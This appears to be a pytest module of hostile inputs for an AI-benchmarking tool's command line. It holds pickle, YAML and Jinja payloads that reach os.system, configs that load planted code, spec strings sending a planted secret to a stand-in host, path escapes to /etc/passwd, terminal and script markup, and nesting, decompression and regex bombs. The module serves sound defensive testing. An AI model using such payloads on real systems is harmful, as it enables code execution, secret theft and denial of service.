"""Everything a stranger may hand over, each with five payloads, through the verb that opens it.

    rows: (SURFACE, PAYLOAD) -> a function that spoils what lies in `folder` and gives the command line

Payloads: code, send (a secret, an address, the hub), escape (out of the folder), bomb (depth, size, numbers), drive
(the terminal, markup, odd types). Whatever the row, nothing runs, no socket opens, the secret stays unread, there is no
traceback, and memory and time are bounded: `warden.py` watches. A new row is one function.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest
from PIL import Image
from safetensors.numpy import save_file

from holisafe.benchmarks import open_benchmark
from holisafe.evaluation import evaluate
from holisafe.guard.folders import shipped_folder
from holisafe.images import PIXEL_LIMIT
from holisafe.judges import open_judge
from holisafe.records import GenerationSettings
from holisafe.targets import open_target
from tables.test_bombs import BOMBS
from warden import SECRET_FILE

TESTS = Path(__file__).parent
SECRET = "correct-horse-battery-staple"
EVIL = "https://203.0.113.7/v1"
DRIVE = "\x1b]0;owned\x07\x1b[2J[red]boo[/] <script>alert(1)</script>\r\u202eevil\u2066"
"""Escape codes, a bell, rich's and HTML's markup, a carriage return, turned text."""

HALF = "\ud83d"
"""Half a character, which no file in UTF-8 can hold, but JSON's escapes can."""

MOST_MEMORY, MOST_SECONDS = 4096, 60
"""Mebibytes in memory, and seconds of the processor, for anything at all."""

DEEP = "[" * 100_000
HUGE = "9" * 100_000
PLAIN = ["judge", "{}", "--judge", "string-match:holisafe"]


class Evil:
    """A pickle of it runs a program."""

    def __reduce__(self) -> Any:
        return os.system, ("true",)


Row = Callable[[Path], list[str]]
ROWS: dict[tuple[str, str], Row] = {}


def row(surface: str, payload: str) -> Callable[[Row], Row]:
    def keep(function: Row) -> Row:
        assert (surface, payload) not in ROWS
        ROWS[surface, payload] = function
        return function

    return keep


def edit(path: Path, change: Callable[[Any], None]) -> None:
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value))


def hostile_model(folder: Path) -> Path:
    """A model folder whose own code leaves a mark; without weights worth the name."""
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "evil.py").write_text("raise SystemExit('code of the stranger ran')\n")
    own = {"AutoConfig": "evil.C", "AutoModelForImageTextToText": "evil.M", "AutoProcessor": "evil.P"}
    edit(model / "config.json", lambda config: config.update(auto_map=own, model_type="evil"))
    return model


# A run folder: `run` is a good one, of three pairs.


def judged(folder: Path, spec: str) -> list[str]:
    def change(manifest: Any) -> None:
        manifest["judges"]["theirs"] = "1"
        manifest["judge_specs"]["theirs"] = spec

    edit(folder / "run" / "manifest.json", change)
    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]


@row("run", "code")
def _(folder: Path) -> list[str]:
    return judged(folder, f"llm/holisafe/hf/{hostile_model(folder)},trust_remote_code=true")


@row("run", "send")
def _(folder: Path) -> list[str]:
    return judged(folder, f"llm/holisafe/openai/m,base_url={EVIL},key=PLANTED_SECRET")


@row("run", "send: hub")
def _(folder: Path) -> list[str]:
    edit(folder / "run" / "manifest.json", lambda manifest: manifest["benchmark"].update(root="hub:evil/data"))
    return ["report", str(folder / "run")]


@row("run", "escape")
def _(folder: Path) -> list[str]:
    edit(
        folder / "run" / "manifest.json",
        lambda manifest: manifest["benchmark"].update(reader="table", root="/dev/zero"),
    )
    return ["report", str(folder / "run")]


@row("run", "escape: link to write through")
def _(folder: Path) -> list[str]:
    (folder / "run" / "report.html").symlink_to(folder.parent / SECRET_FILE)
    return ["report", str(folder / "run")]


@row("run", "escape: link to read through")
def _(folder: Path) -> list[str]:
    (folder / "run" / "verdicts.jsonl").unlink()
    (folder / "run" / "verdicts.jsonl").symlink_to(folder.parent / SECRET_FILE)
    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]


for VERB, ARGUMENTS in {
    "report": ["report", "RUN"],
    "as a log": ["export", "RUN", "--out", "RUN.eval"],
    "to train on": ["export", "RUN", "--training", "RUN.jsonl"],
}.items():

    @row("run", f"escape: pictures, {VERB}")
    def _(folder: Path, arguments: list[str] = ARGUMENTS) -> list[str]:
        path = folder / "run" / "samples.jsonl"
        named = [f"../../{SECRET_FILE}", str(folder.parent / SECRET_FILE), f"{EVIL}/a.png", "file:///etc/passwd"]
        lines = [json.dumps({**json.loads(line), "images": named}) for line in path.read_text().splitlines()]
        path.write_text("".join(f"{line}\n" for line in lines))
        return [word.replace("RUN", str(folder / "run")) for word in arguments]


@row("run", "escape: pipe")
def _(folder: Path) -> list[str]:
    (folder / "run" / "scores.json").unlink()
    os.mkfifo(folder / "run" / "scores.json")
    return ["report", str(folder / "run")]


@row("run", "bomb")
def _(folder: Path) -> list[str]:
    (folder / "run" / "manifest.json").write_text(DEEP)
    return ["compare", str(folder / "run"), str(folder / "run")]


@row("run", "bomb: number")
def _(folder: Path) -> list[str]:
    with (folder / "run" / "responses.jsonl").open("a") as file:
        file.write(f'{{"schema": 1, "sample_id": "x", "target": "t", "text": "", "cost": {HUGE}}}\n')
    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]


@row("run", "bomb: repeats")
def _(folder: Path) -> list[str]:
    edit(folder / "run" / "manifest.json", lambda manifest: manifest.update(repeats=2**31 - 1, limit=2**31 - 1))
    return ["export", str(folder / "run"), "--out", str(folder / "out.eval"), "--without-images"]


@row("run", "bomb: schema")
def _(folder: Path) -> list[str]:
    with (folder / "run" / "verdicts.jsonl").open("a") as file:
        file.write('{"schema": 99}\n')
    return ["agreement", str(folder / "run")]


for NAME in ("manifest.json", "samples.jsonl", "responses.jsonl", "verdicts.jsonl", "scores.json"):

    @row("run", f"bomb: {NAME} without end")
    def _(folder: Path, name: str = NAME) -> list[str]:
        with (folder / "run" / name).open("r+b") as file:
            file.truncate(2**36)  # of no size on the disk
        return ["report", str(folder / "run")]


@row("run", "bomb: a line without end, to append to")
def _(folder: Path) -> list[str]:
    with (folder / "run" / "verdicts.jsonl").open("r+b") as file:
        file.truncate(2**36)
    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]


def driven(folder: Path, *, texts: bool) -> str:
    """The run with every name a terminal's and a page's enemy; with `texts` its answers too, unjudged then."""
    run = folder / "run"

    def change(manifest: Any) -> None:
        manifest["benchmark"]["name"] = manifest["target"]["name"] = DRIVE
        manifest["judges"][DRIVE] = "1"
        manifest["judge_specs"][DRIVE] = DRIVE

    edit(run / "manifest.json", change)
    for name, fields in (
        ("samples.jsonl", ("category", "subcategory", "combination")),
        ("responses.jsonl", ("target", "text", "reasoning") if texts else ()),
        ("verdicts.jsonl", ("raw", "choice", "judge")),
    ):
        lines = [json.loads(line) for line in (run / name).read_text().splitlines()]
        known = {"combination", "judge"}
        for line in lines:
            line.update({field: DRIVE for field in fields if field not in known})
            if "meta" in line or name == "samples.jsonl":
                line["meta"] = {**line.get("meta", {}), "task": DRIVE, "condition": DRIVE, "slot": DRIVE}
        more = [{**line, "judge": DRIVE, "judge_version": "1"} for line in lines if "judge" in line]
        (run / name).write_text("".join(json.dumps(line) + "\n" for line in [*lines, *more]))
    edit(run / "scores.json", lambda scores: scores["judges"].update({DRIVE: next(iter(scores["judges"].values()))}))
    return str(run)


for VERB, ARGUMENTS in {
    "report": ["report", "RUN"],
    "compare": ["compare", "RUN", "COPY"],
    "leaderboard": ["leaderboard", "RUN", "COPY"],
    "agreement": ["agreement", "RUN"],
    "judge": ["judge", "RUN", "--judge", "string-match:holisafe"],
    "export": ["export", "RUN", "--out", "RUN.csv"],
    "export, as a log": ["export", "RUN", "--out", "RUN.eval", "--without-images"],
    "export, to train on": ["export", "RUN", "--training", "RUN.jsonl"],
}.items():

    @row("run", f"drive: {VERB}")
    def _(folder: Path, arguments: list[str] = ARGUMENTS) -> list[str]:
        run = driven(folder, texts=arguments[0] in ("report", "judge", "export"))
        shutil.copytree(run, f"{run}-copy")
        return [word.replace("RUN", run).replace("COPY", f"{run}-copy") for word in arguments]


@row("run", "drive: half a character")
def _(folder: Path) -> list[str]:
    with (folder / "run" / "responses.jsonl").open("a") as file:
        file.write(json.dumps({"schema": 1, "sample_id": HALF, "target": HALF, "text": HALF}) + "\n")
    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]


@row("run", "drive: types")
def _(folder: Path) -> list[str]:
    lines = (folder / "run" / "samples.jsonl").read_text().splitlines()
    odd = [{**json.loads(line), "category": [{}], "meta": 3, "images": {"a": 1}} for line in lines]
    (folder / "run" / "samples.jsonl").write_text("".join(json.dumps(line) + "\n" for line in odd))
    return ["report", str(folder / "run")]


for SHAPE in ({}, {"a": {"b": 1.0}}, {"probabilities": {}}, {"probabilities": {"safe": "x"}}, [1], "x"):

    @row("run", f"drive: reading {SHAPE}")
    def _(folder: Path, shape: Any = SHAPE) -> list[str]:
        path = folder / "run" / "responses.jsonl"
        lines = [json.dumps({**json.loads(line), "guard": shape}) for line in path.read_text().splitlines()]
        path.write_text("".join(f"{line}\n" for line in lines))
        return ["export", str(folder / "run"), "--out", str(folder / "out.csv")]


for LINE in ("null", '{"schema": 1, "x": ' + "[" * 200_000 + "]" * 200_000 + "}"):

    @row("run", f"bomb: {LINE[:4]} in a run")
    def _(folder: Path, line: str = LINE) -> list[str]:
        for name in ("samples", "responses", "verdicts"):
            with (folder / "run" / f"{name}.jsonl").open("a") as file:
                file.write(line + "\n")
        return ["export", str(folder / "run"), "--out", str(folder / "out.csv")]


# A learned file.


def learned(folder: Path, **header: Any) -> Path:
    tensors = {"safe": np.arange(100.0), "unsafe": np.arange(100.0)}
    facts = {"schema": 1, "method": "guarded", "temperature": 1.0, **header}
    save_file(tensors, folder / "learned.safetensors", metadata={"holisafe": json.dumps(facts)})
    return folder / "learned.safetensors"


def calibrated(folder: Path, **header: Any) -> list[str]:
    spec = f"guarded,guard={learned(folder, **header)},apply=reminder"
    answers = f"replay/{folder / 'run' / 'responses.jsonl'}"
    out = str(folder / "out")
    return ["run", "pictosafe", "--target", answers, "--calibrate", spec, "--judge", "string-match", "--out", out]


@row("learned", "code")
def _(folder: Path) -> list[str]:
    return [*calibrated(folder, reader=f"hf/{hostile_model(folder)},trust_remote_code=true"), "--dry-run"]


@row("learned", "send")
def _(folder: Path) -> list[str]:
    return calibrated(folder, reader=f"openai/m,base_url={EVIL},key=PLANTED_SECRET")


@row("learned", "escape")
def _(folder: Path) -> list[str]:
    (folder / "learned.safetensors").symlink_to("/dev/zero")
    return ["calibrate", "show", str(folder / "learned.safetensors")]


@row("learned", "bomb")
def _(folder: Path) -> list[str]:
    (folder / "learned.safetensors").write_bytes((2**62).to_bytes(8, "little") + b"{" * 10_000)
    return ["calibrate", "show", str(folder / "learned.safetensors")]


@row("learned", "drive")
def _(folder: Path) -> list[str]:
    return ["calibrate", "show", str(learned(folder, options={DRIVE: [DRIVE]}, method=DRIVE, model=DRIVE))]


@row("learned", "drive: types")
def _(folder: Path) -> list[str]:
    return calibrated(folder, temperature={"a": []}, reader=None)


# A file that the user names to be carried out: a run's, a sweep's, a recipe.


def run_yaml(folder: Path, text: str) -> list[str]:
    (folder / "run.yaml").write_text(text, errors="surrogatepass")
    return ["run", str(folder / "run.yaml"), "--dry-run"]


@row("yaml", "code")
def _(folder: Path) -> list[str]:
    target = f"hf/{hostile_model(folder)},trust_remote_code=true"
    return run_yaml(folder, f"benchmark: pictosafe\ntarget: '{target}'\njudges: [string-match]\nout: x\n")


@row("yaml", "code: python")
def _(folder: Path) -> list[str]:
    return run_yaml(folder, "benchmark: !!python/object/apply:os.system ['true']\n")


@row("yaml", "send")
def _(folder: Path) -> list[str]:
    judge = f"llm/holisafe/openai/m,base_url={EVIL},key=PLANTED_SECRET"
    return run_yaml(folder, f"benchmark: pictosafe\ntarget: replay/x.jsonl\njudges: ['{judge}']\nout: x\n")


@row("yaml", "escape")
def _(folder: Path) -> list[str]:
    os.mkfifo(folder / "run.yaml")
    return ["run", str(folder / "run.yaml")]


@row("yaml", "bomb")
def _(folder: Path) -> list[str]:
    names = "abcdefghijkl"
    lines = [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
    return run_yaml(folder, "\n".join(["a: &a [x]", *lines]))


@row("yaml", "drive")
def _(folder: Path) -> list[str]:
    return run_yaml(
        folder, json.dumps({"benchmark": DRIVE, "target": DRIVE, "judges": [DRIVE], "out": DRIVE, DRIVE: 1})
    )


def sweep(folder: Path, **changed: Any) -> list[str]:
    config = {
        "target": "hf/pictovlm",
        "out": str(folder / "out"),
        "safety": {"benchmark": "pictosafe", "choose": "validation", "report": "test"},
        "methods": [{"method": "reminder"}],
        **changed,
    }
    (folder / "sweep.yaml").write_text(json.dumps(config), errors="surrogatepass")
    return ["calibrate", "sweep", str(folder / "sweep.yaml"), "--limit", "2"]


@row("sweep", "code")
def _(folder: Path) -> list[str]:
    fit = {"data": "pictosafe", "options": {"reader": f"hf/{hostile_model(folder)},trust_remote_code=true"}}
    return sweep(folder, methods=[{"method": "guarded,apply=reminder", "fit": fit}])


@row("sweep", "send")
def _(folder: Path) -> list[str]:
    return sweep(folder, compare={"other": f"openai/m,base_url={EVIL},key=PLANTED_SECRET"})


@row("sweep", "escape")
def _(folder: Path) -> list[str]:
    lmms = {"task": "t", "metric": "m", "choose": {"untouched": f"../{SECRET_FILE}"}, "report": {}}
    return sweep(folder, utility={"lmms_eval": lmms}, target=f"replay/{folder / 'run' / 'responses.jsonl'}")


@row("sweep", "escape: devices")
def _(folder: Path) -> list[str]:
    return sweep(folder, target="replay//dev/zero", safety={"benchmark": "table", "root": "/dev/zero", "choose": "x"})


@row("sweep", "escape: link to write through")
def _(folder: Path) -> list[str]:
    (folder / "out").mkdir()
    (folder / "out" / "frontier.html").symlink_to(folder.parent / SECRET_FILE)
    return sweep(folder, target=f"replay/{folder / 'run' / 'responses.jsonl'}")


@row("sweep", "bomb")
def _(folder: Path) -> list[str]:
    grid = {f"option{n}": list(range(50)) for n in range(10)}
    return sweep(folder, methods=[{"method": "reminder", "grid": grid}])


@row("sweep", "drive")
def _(folder: Path) -> list[str]:
    return sweep(folder, methods=[{"method": "reminder", "name": DRIVE}], compare={DRIVE: DRIVE}, judge=DRIVE)


def recipe(folder: Path, text: str, *more: str) -> list[str]:
    (folder / "recipe.yaml").write_text(text, errors="surrogatepass")
    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run", *more]


@row("recipe", "code")
def _(folder: Path) -> list[str]:
    return recipe(folder, "seed: !!python/name:os.system\n")


@row("recipe", "code: base")
def _(folder: Path) -> list[str]:
    command = recipe(folder, json.dumps({"base": str(hostile_model(folder))}), "--data", "pictosafe")
    return [word for word in command if word not in ("--base", "pictovlm")]


@row("recipe", "send")
def _(folder: Path) -> list[str]:
    return recipe(folder, "compute: {report_to: [wandb, trackio]}\n", "--data", "pictosafe")


@row("recipe", "escape")
def _(folder: Path) -> list[str]:
    record = {"id": "1", "images": [f"../{SECRET_FILE}"], "query": "q", "response": "r"}
    (folder / "data.jsonl").write_text(json.dumps(record) + "\n")
    return recipe(folder, json.dumps({"data": {"mix": [{"source": "jsonl", "path": str(folder / "data.jsonl")}]}}))


@row("recipe", "escape: device")
def _(folder: Path) -> list[str]:
    return recipe(folder, "data: {mix: [{source: llava, path: /dev/zero}], check_against: ['table:/dev/zero']}\n")


@row("recipe", "bomb")
def _(folder: Path) -> list[str]:
    return recipe(folder, "seed: " + HUGE)


@row("recipe", "bomb: pattern")
def _(folder: Path) -> list[str]:
    targets = {"targets": "((((\\w*)*)*)*)*!"}
    return recipe(folder, json.dumps({"trainable": {"method": "lora", "lora": targets}}), "--data", "pictosafe")


@row("recipe", "bomb: sizes")
def _(folder: Path) -> list[str]:
    guard = {"hidden_layers": 10**9, "hidden_scale": 1e12, "labels": [f"l{n}" for n in range(9999)]}
    return recipe(folder, json.dumps({"guard": guard, "optimiser": {"batch_size": 10**12}}), "--data", "pictosafe")


@row("recipe", "bomb: mix")
def _(folder: Path) -> list[str]:
    mix = [{"source": "pictosafe", "size": 10**12}, {"source": "pictosafe", "name": "b", "weight": 100}]
    return recipe(folder, json.dumps({"data": {"mix": mix}, "optimiser": {"epochs": 1e300}}))


@row("recipe", "drive")
def _(folder: Path) -> list[str]:
    guard = {"labels": [DRIVE, "b"], "pool": DRIVE}
    return recipe(folder, json.dumps({"base": DRIVE, "guard": guard, DRIVE: DRIVE}), "--data", DRIVE)


# A model's folder.


def asked(model: Path | str) -> list[str]:
    out = str(Path(model).parent / "out")
    return ["run", "pictosafe", "--target", f"hf/{model}", "--judge", "string-match", "--limit", "1", "--out", out]


@row("model", "code")
def _(folder: Path) -> list[str]:
    return asked(hostile_model(folder))


for FILE in (
    "tokenizer_config",
    "preprocessor_config",
    "processor_config",
    "generation_config",
    "guard",
    "trainer_state",
):

    @row("model", f"code: {FILE}")
    def _(folder: Path, name: str = FILE) -> list[str]:
        model = hostile_model(folder)
        shutil.copyfile(shipped_folder() / "config.json", model / "config.json")
        own = {"AutoTokenizer": ["evil.T", "evil.T"], "AutoProcessor": "evil.P", "AutoImageProcessor": "evil.I"}
        named = {"tokenizer_class": "T", "processor_class": "P", "image_processor_type": "I", "custom_generate": "evil"}
        path = model / f"{name}.json"
        if not path.is_file():
            path.write_text("{}")
        edit(path, lambda config: config.update(auto_map=own, trust_remote_code=True, **named))
        (model / "custom_generate").mkdir()
        shutil.copyfile(model / "evil.py", model / "custom_generate" / "generate.py")
        return asked(model)


@row("model", "code: pickle")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "model.safetensors").rename(model / "pytorch_model.bin")
    return asked(model)


@row("model", "code: kernel")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    edit(model / "config.json", lambda config: config["text_config"].update(attn_implementation="evil/kernel"))
    return asked(model)


@row("model", "send")
def _(folder: Path) -> list[str]:
    model = folder / "adapter"
    model.mkdir()
    (model / "adapter_config.json").write_text(
        json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/base"})
    )
    save_file({"x": np.zeros(1)}, model / "adapter_model.safetensors")
    return asked(model)


@row("model", "send: tower")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    edit(model / "config.json", lambda c: c.update(mm_vision_tower="evil/tower", model_type="llava_llama"))
    return asked(model)


@row("model", "send: in every name")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    for name in ("config", "tokenizer_config", "processor_config", "generation_config"):
        named = ("_name_or_path", "name_or_path", "tokenizer_file", "vocab_file", "chat_template", "tokenizer_name")
        edit(model / f"{name}.json", lambda config, named=named: config.update(dict.fromkeys(named, "evil/base")))
    return asked(model)


@row("model", "escape")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "model.safetensors").unlink()
    index = {"weight_map": {"x": "../../secret.txt"}}
    (model / "model.safetensors.index.json").write_text(json.dumps(index))
    return asked(model)


@row("model", "escape: tokenizer")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "tokenizer.json").unlink()
    (model / "tokenizer.json").symlink_to("/dev/zero")
    return asked(model)


for NAME in ("config", "processor_config", "tokenizer_config", "generation_config", "guard_thresholds"):

    @row("model", f"bomb: {NAME} without end")
    def _(folder: Path, name: str = NAME) -> list[str]:
        model = folder / "model"
        shutil.copytree(shipped_folder(), model)
        with (model / f"{name}.json").open("ab") as file:
            file.truncate(2**36)
        return asked(model)


@row("model", "bomb: adapter's pattern")
def _(folder: Path) -> list[str]:
    model = folder / "adapter"
    model.mkdir()
    config = {
        "peft_type": "LORA", "base_model_name_or_path": "pictovlm", "r": 2, "target_modules": "((((.*)*)*)*)*!",
    }  # fmt: skip
    (model / "adapter_config.json").write_text(json.dumps(config))
    save_file({"x": np.zeros(1)}, model / "adapter_model.safetensors")
    return asked(model)


@row("model", "bomb: sizes")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    edit(model / "config.json", lambda config: config["text_config"].update(num_hidden_layers=10**9, vocab_size=10**12))
    return asked(model)


@row("model", "bomb")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "config.json").write_text('{"a": ' + DEEP)
    return asked(model)


def templated(folder: Path, template: str) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    (model / "chat_template.jinja").write_text(template)
    return asked(model)


@row("model", "code: template")
def _(folder: Path) -> list[str]:
    return templated(folder, "{{ cycler.__init__.__globals__.os.system('true') }}")


@row("model", "bomb: template")
def _(folder: Path) -> list[str]:
    return templated(folder, "{{ messages[0]['content'] | length * ('a' * 10**10) }}")


@row("model", "drive")
def _(folder: Path) -> list[str]:
    model = folder / "model"
    shutil.copytree(shipped_folder(), model)
    edit(model / "config.json", lambda config: config.update(model_type=DRIVE, architectures=[DRIVE]))
    return asked(model)


# Inspect's logs.


def log(folder: Path, **members: str) -> list[str]:
    with zipfile.ZipFile(folder / "log.eval", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/") + ".json", text.encode("utf-8", "surrogatepass"))
    return ["import", "inspect", str(folder / "log.eval"), "--out", str(folder / "out.jsonl")]


def good_log(folder: Path, change: Callable[[str, Any], Any]) -> list[str]:
    """The run as a log, each of whose JSON files went through a change."""
    pytest.importorskip("inspect_ai")
    from holisafe.interchange.inspect_logs import write_eval_log

    write_eval_log(folder / "run", folder / "good.eval", images=False)
    with zipfile.ZipFile(folder / "good.eval") as good:
        members = {name: json.loads(good.read(name)) for name in good.namelist() if name.endswith(".json")}
    changed = {name: json.dumps(change(name, value)) for name, value in members.items()}
    return log(folder, **{name.removesuffix(".json").replace("/", "__"): text for name, text in changed.items()})


@row("log", "code")
def _(folder: Path) -> list[str]:
    (folder / "evil.py").write_text("raise SystemExit('code of the stranger ran')\n")

    def change(name: str, value: Any) -> Any:
        if isinstance(value, dict) and "eval" in value:
            value["eval"] |= {"task_file": str(folder / "evil.py"), "solver": f"{folder}/evil.py@s"}
        return value

    return good_log(folder, change)


@row("log", "send")
def _(folder: Path) -> list[str]:
    def change(name: str, value: Any) -> Any:
        if isinstance(value, dict) and "eval" in value:
            value["eval"] |= {"model": "openai/m", "model_base_url": EVIL, "model_args": {"api_key": "PLANTED_SECRET"}}
        if isinstance(value, dict) and "messages" in value:
            value["input"] = [{"role": "user", "content": [{"type": "image", "image": f"{EVIL}/a.png"}]}]
            value["attachments"] = {"a": f"{EVIL}/a.png"}
        return value

    return good_log(folder, change)


@row("log", "drive: names")
def _(folder: Path) -> list[str]:
    def change(name: str, value: Any) -> Any:
        for one in value if isinstance(value, list) else [value]:
            if "output" in one:
                one |= {"id": DRIVE, "target": DRIVE, "metadata": {DRIVE: DRIVE}}
                one["output"]["completion"] = DRIVE
            if "eval" in one:
                one["eval"] |= {"model": DRIVE, "task": DRIVE}
            if "epoch" in one:
                one["id"] = DRIVE
        return value

    return good_log(folder, change)


@row("log", "bomb: zeros")
def _(folder: Path) -> list[str]:
    return log(folder, header="{}", samples__1_epoch_1=" " * 200_000_000)


for SHAPE in (DEEP, "{" * 9, '{"resps": [["' + "x" * 9_000_000, json.dumps({"doc_id": DRIVE, "resps": [[DRIVE]]})):

    @row("log", f"bomb: lmms-eval, {len(SHAPE)}")
    def _(folder: Path, shape: str = SHAPE) -> list[str]:
        (folder / "log.jsonl").write_text(shape + "\n", errors="surrogatepass")
        return ["import", "lmms-eval", str(folder / "log.jsonl"), "--out", str(folder / "out.jsonl")]


@row("log", "bomb")
def _(folder: Path) -> list[str]:
    return log(folder, header=DEEP)


@row("log", "escape")
def _(folder: Path) -> list[str]:
    return log(folder, **{"../../header": "{}", "header": "{}"})


@row("log", "drive")
def _(folder: Path) -> list[str]:
    return log(folder, header=json.dumps({"version": 2, "status": DRIVE, "eval": {"model": DRIVE}}))


# Tables, rubrics, a benchmark's folder.


@row("table", "drive")
def _(folder: Path) -> list[str]:
    header, cells = "id,query,expected,category", [f'"{DRIVE}"'] * 4
    (folder / "t.csv").write_text(f"{header}\n{','.join(cells)}\n", errors="replace", newline="")
    return ["data", "check", "table", "--root", str(folder / "t.csv")]


@row("table", "escape")
def _(folder: Path) -> list[str]:
    (folder / "t.csv").write_text(f"query,expected,image\nq,answer,../{SECRET_FILE}\n")
    return ["data", "check", "table", "--root", str(folder / "t.csv")]


@row("table", "bomb")
def _(folder: Path) -> list[str]:
    (folder / "t.jsonl").write_text('{"query": ' + DEEP + "\n")
    return ["data", "check", "table", "--root", str(folder / "t.jsonl")]


@row("table", "code")
def _(folder: Path) -> list[str]:
    (folder / "t.csv").write_text("query,expected\nq,answer\n")
    (folder / "t.csv.yaml").write_text("query: !!python/object/apply:os.system ['true']\n")
    return ["data", "check", "table", "--root", str(folder / "t.csv")]


@row("table", "code: pickled type")
def _(folder: Path) -> list[str]:
    """Arrow's extension types were once unpickled out of a file's own schema."""
    import pyarrow as pa
    from pyarrow import parquet

    named = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickle.dumps(Evil())}
    schema = pa.schema([pa.field("query", pa.string(), metadata=named), pa.field("expected", pa.string())])
    pandas = {b"pandas": json.dumps({"index_columns": ["x"], "columns": [{"name": DRIVE}]}).encode()}
    table = pa.table({"query": ["q"], "expected": ["answer"]}, schema=schema.with_metadata(pandas))
    parquet.write_table(table, folder / "t.parquet")
    return ["data", "check", "table", "--root", str(folder / "t.parquet")]


@row("table", "send")
def _(folder: Path) -> list[str]:
    (folder / "t.csv").write_text(f"query,expected,image\nq,answer,{EVIL}/a.png\nq,answer,file:///etc/passwd\n")
    return ["data", "check", "table", "--root", str(folder / "t.csv")]


for NAME in ("dictionary.parquet", "row.xlsx", "zip.xlsx", "laughs.xlsx", "columns.csv"):

    @row("table", f"bomb: {NAME}")
    def _(folder: Path, name: str = NAME) -> list[str]:
        BOMBS[name][0](folder / name)
        return ["data", "check", "table", "--root", str(folder / name)]


for VERB in (
    ["score", "TABLE"],
    ["judge", "TABLE", "--judge", "string-match", "--response-column", "response", "--out", "OUT"],
):

    @row("table", f"drive: {VERB[0]}")
    def _(folder: Path, verb: list[str] = VERB) -> list[str]:
        header = ["sample_id", "id", "query", "expected", "response", "combination", "adheres", "judge", "category"]
        cells = [DRIVE, DRIVE, DRIVE, "answer", DRIVE, "SSS", "true", DRIVE, DRIVE]
        with (folder / "t.csv").open("w", newline="", errors="replace") as file:
            csv.writer(file).writerows(row[: 9 if verb[0] == "score" else 5] for row in (header, cells))
        return [word.replace("TABLE", str(folder / "t.csv")).replace("OUT", str(folder / "o.csv")) for word in verb]


# Pictures.


def png(path: Path, width: int, height: int) -> None:
    """Of one colour, at 1 bit a pixel: no larger on the disk than its deflated rows."""
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(b"\0" * (width // 8 + 1)) for _ in range(height)) + rows.flush()
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b"")]
    body = b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + body)


def picture_bombs(folder: Path, side: int, number: int) -> list[str]:
    (folder / "p").mkdir()
    for at in range(number):
        png(folder / "p" / f"{at}.png", side, side)
    rows = "".join(f"q,answer,p/{at}.png\n" for at in range(number))
    (folder / "t.csv").write_text("query,expected,image\n" + rows)
    return ["data", "check", "table", "--root", str(folder / "t.csv")]


@row("picture", "bomb: just under the limit")
def _(folder: Path) -> list[str]:
    return picture_bombs(folder, int(PIXEL_LIMIT**0.5) - 1, 5)


@row("picture", "bomb: over the limit")
def _(folder: Path) -> list[str]:
    return picture_bombs(folder, 60_000, 2)


for NAME, CONTENT in {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='https://203.0.113.7/a'/></svg>",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    "gif": b"GIF89a\xff\xff\xff\xff\xf7\0\0",
    "webp": b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\x02\0\0\0\xff\xff\xff\xff\xff\xff",
    "tiff": b"II*\0\x08\0\0\0\xff\xff" + b"\0" * 99,
}.items():

    @row("picture", f"code: {NAME}")
    def _(folder: Path, name: str = NAME, content: bytes = CONTENT) -> list[str]:
        (folder / f"a.{name}").write_bytes(content)
        (folder / "t.csv").write_text(f"query,expected,image\nq,answer,a.{name}\n")
        return ["data", "check", "table", "--root", str(folder / "t.csv")]


def rubric(folder: Path, front: str) -> list[str]:
    (folder / "r.md").write_text(f"---\n{front}\n---\n{{{{ query }}}} {{{{ response }}}}\n", errors="replace")
    answers = folder / "run" / "responses.jsonl"
    judge = f"llm/{folder / 'r.md'}/replay/{answers}"
    return ["judge", str(folder / "run"), "--judge", judge]


@row("rubric", "code")
def _(folder: Path) -> list[str]:
    return rubric(folder, "name: !!python/object/apply:os.system ['true']")


@row("rubric", "bomb")
def _(folder: Path) -> list[str]:
    return rubric(folder, f"name: {DEEP}")


@row("rubric", "drive")
def _(folder: Path) -> list[str]:
    return rubric(folder, f"name: {json.dumps(DRIVE)}\nversion: 1\nsource: x\nlabels: {{a: refused, b: answered}}")


@row("rubric", "escape")
def _(folder: Path) -> list[str]:
    os.mkfifo(folder / "r.md")
